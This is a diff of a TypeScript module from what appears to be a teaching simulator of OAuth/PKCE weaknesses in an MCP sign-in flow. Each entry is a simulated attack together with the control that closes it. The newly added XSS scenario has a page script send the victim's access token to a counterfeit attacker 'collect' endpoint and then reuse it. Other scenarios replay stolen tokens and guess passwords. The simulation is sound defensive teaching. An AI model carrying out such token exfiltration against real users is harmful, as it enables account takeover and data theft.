@@ -1,19 +1,26 @@
 import type { Machine } from '../../../machine/machine.ts';
 import { eavesdrop } from '../../../machine/run/eavesdrop.ts';
-import { type Exchange, responseOf } from '../../../machine/wire/exchange.ts';
-import { mcpRequests } from '../evidence.ts';
+import { COUNTERFEIT, serverOf } from '../../../machine/run/server-of.ts';
+import { formMessage } from '../../../machine/run/token-request.ts';
+import { type Exchange, parameterOf, responseOf } from '../../../machine/wire/exchange.ts';
+import type { Middleware } from '../../../machine/wire/recorder.ts';
+import { bearerRefusalOf, hasStatus, mcpRequests, runsOf } from '../evidence.ts';
+import { bearerOf } from '../token-claims.ts';
 
-/** Something that PKCE leaves open, and the control that closes it. */
+/** Something that PKCE leaves open. */
 export interface Gap {
   name: string;
   what: string;
-  control: string;
+  /** What closes it. Absent when nothing in the flow does. */
+  control?: {
+    name: string;
+    /** The exchange that shows the gap closed by the control. */
+    closed(log: readonly Exchange[]): Exchange | undefined;
+  };
   /** Runs the attack once. @throws RefusedAtServer when the control makes the server refuse. */
   play(machine: Machine, controlled: boolean): Promise<void>;
   /** The exchange that shows the gap open. */
   open(log: readonly Exchange[]): Exchange | undefined;
-  /** The exchange that shows the gap closed by the control. */
-  closed(log: readonly Exchange[]): Exchange | undefined;
 }
 
 const LATER_MS = 3600_000;
@@ -22,16 +29,36 @@ const SECRET_WORDS = 'the merger is off';
 const byAttacker = (log: readonly Exchange[]) => log.filter(({ from }) => from === 'attacker');
 const overheard = (log: readonly Exchange[]) =>
   log.filter(({ from, to }) => from === 'client' && to === 'attacker');
-const auditReports = (log: readonly Exchange[]) =>
-  mcpRequests(log, 'tools/call').filter(({ request }) => request.body.includes('read_audit_log'));
 const namesCaller = (exchange: Exchange) => responseOf(exchange)?.body.includes('called whoami') ?? false;
 
-/** Four attacks that succeed despite a perfect verifier. */
-export const GAPS: readonly Gap[] = [
+/** Takes what a script brings. */
+const attackersServer: Middleware = (next) => async (url, init) =>
+  serverOf(url) === 'attacker' ? new Response(null, { status: 204 }) : next(url, init);
+
+/** Attacks that succeed despite a perfect verifier, that of a script in the page first. */
+export const GAPS: readonly [Gap, ...Gap[]] = [
+  {
+    name: 'Run a script in the page',
+    what: 'A library that the page loads was tampered with (XSS). Every control of this chapter is in place. The script has the rights of the page: it takes the access token and sends it to the attacker, who calls a tool. No control of the flow closes this gap: it is about what runs in the page.',
+    async play(machine) {
+      const run = machine.start({ middleware: [attackersServer] });
+      await run.signIn();
+      const token = run.memory.getSnapshot() ?? '';
+      await run.send(formMessage(`${run.origin}${COUNTERFEIT}/collect`, { taken: token }));
+      await run.attacker().callTool('whoami', {}, token);
+    },
+    open: (log) =>
+      mcpRequests(byAttacker(log), 'tools/call')
+        .filter(hasStatus(200))
+        .find((call) =>
+          overheard(log).some(
+            ({ id, request }) => id < call.id && parameterOf(request, 'taken') === bearerOf(call),
+          ),
+        ),
+  },
   {
     name: 'Sign in as another person',
     what: 'The server accepts any password, as development servers do. The attacker types a name and a guess; verifier, challenge and code are all valid.',
-    control: 'a sign-in that asks for the password',
     async play(machine, controlled) {
       const run = machine.start({ policy: controlled ? {} : { passwordRequired: false } });
       const attacker = run.attacker({ username: 'ada', password: 'a guess' });
@@ -39,18 +66,22 @@ export const GAPS: readonly Gap[] = [
       await attacker.callTool('whoami');
     },
     open: (log) =>
-      byAttacker(log).find((exchange) => responseOf(exchange)?.headers.location?.includes('code=') ?? false),
-    closed: (log) =>
-      log.find(
-        ({ from, serverView }) =>
-          from === 'attacker' &&
-          serverView.some((seen) => seen.kind === 'refused' && seen.rejection.reason === 'wrong password'),
+      byAttacker(log).find(
+        (exchange) =>
+          parameterOf(exchange.request, 'username') === 'ada' &&
+          (responseOf(exchange)?.headers.location?.includes('code=') ?? false),
       ),
+    control: {
+      name: 'a sign-in that asks for the password',
+      closed: (log) =>
+        byAttacker(log).find(({ serverView }) =>
+          serverView.some((seen) => seen.kind === 'refused' && seen.rejection.reason === 'wrong password'),
+        ),
+    },
   },
   {
     name: 'Eavesdrop on the network',
     what: 'An attacker between the two machines copies the traffic. PKCE protected the code; the call is still plain text.',
-    control: 'TLS',
     async play(machine, controlled) {
       const run = machine.start({
         middleware: [eavesdrop(machine.log, { server: 'MCP server', tls: controlled })],
@@ -59,12 +90,14 @@ export const GAPS: readonly Gap[] = [
       await run.callTool('list_notes', { containing: SECRET_WORDS });
     },
     open: (log) => overheard(log).find(({ request }) => request.body.includes(SECRET_WORDS)),
-    closed: (log) => overheard(log).find(({ request }) => /^[\w+/]+=*$/.test(request.body)),
+    control: {
+      name: 'TLS',
+      closed: (log) => overheard(log).find(({ request }) => /^[\w+/]+=*$/.test(request.body)),
+    },
   },
   {
     name: 'Use a stolen token an hour later',
     what: 'A bearer token works for anyone who holds it. PKCE protected only the code that bought it.',
-    control: 'a lifetime of 15 minutes',
     async play(machine, controlled) {
       const run = machine.start({ policy: controlled ? {} : { accessTokenLifetimeMs: 24 * LATER_MS } });
       await run.signIn();
@@ -73,37 +106,45 @@ export const GAPS: readonly Gap[] = [
       run.advanceClock(LATER_MS);
       if (call) await run.send(call.request, 'attacker');
     },
-    open: (log) =>
-      mcpRequests(byAttacker(log), 'tools/call').find(
-        (exchange) => stolen(log, exchange) && responseOf(exchange)?.status === 200,
-      ),
-    closed: (log) =>
-      mcpRequests(byAttacker(log), 'tools/call').find(
-        (exchange) => stolen(log, exchange) && responseOf(exchange)?.status === 401,
-      ),
+    open: (log) => usedLater(log).find(hasStatus(200)),
+    control: {
+      name: 'a lifetime of 15 minutes',
+      closed: (log) => usedLater(log).find((call) => bearerRefusalOf(call) === 'expired'),
+    },
   },
   {
     name: 'Leave no trace',
     what: 'The attacker read data under the victim’s name. An investigation finds no records.',
-    control: 'an audit log',
     async play(machine, controlled) {
       const run = machine.start({ audit: controlled });
       await run.signIn();
       await run.callTool('whoami');
       await run.callTool('read_audit_log');
     },
-    open: (log) =>
-      auditReports(log).find((report) => responseOf(report)?.status === 200 && !namesCaller(report)),
-    closed: (log) => auditReports(log).find(namesCaller),
+    open: (log) => auditReports(log).find((report) => hasStatus(200)(report) && !namesCaller(report)),
+    control: { name: 'an audit log', closed: (log) => auditReports(log).find(namesCaller) },
   },
 ];
 
-/** Whether the attacker's call carries a token that the victim used before. */
-function stolen(log: readonly Exchange[], { id, request }: Exchange): boolean {
-  return log.some(
-    (earlier) =>
-      earlier.id < id &&
-      earlier.from === 'client' &&
-      earlier.request.headers.authorization === request.headers.authorization,
+/** The attacker's calls with a token that the victim used an hour before. */
+function usedLater(log: readonly Exchange[]): Exchange[] {
+  return mcpRequests(byAttacker(log), 'tools/call').filter((call) =>
+    log.some(
+      (earlier) =>
+        earlier.from === 'client' &&
+        bearerOf(earlier) === bearerOf(call) &&
+        call.atMs - earlier.atMs >= LATER_MS,
+    ),
   );
+}
+
+/** What the audit log of a run says once there was a call to find in it. */
+function auditReports(log: readonly Exchange[]): Exchange[] {
+  return runsOf(log).flatMap((run) => {
+    const calls = mcpRequests(run, 'tools/call').filter(hasStatus(200));
+    const called = calls.find(({ request }) => request.body.includes('whoami'));
+    return calls.filter(
+      ({ id, request }) => called && id > called.id && request.body.includes('read_audit_log'),
+    );
+  });
 }
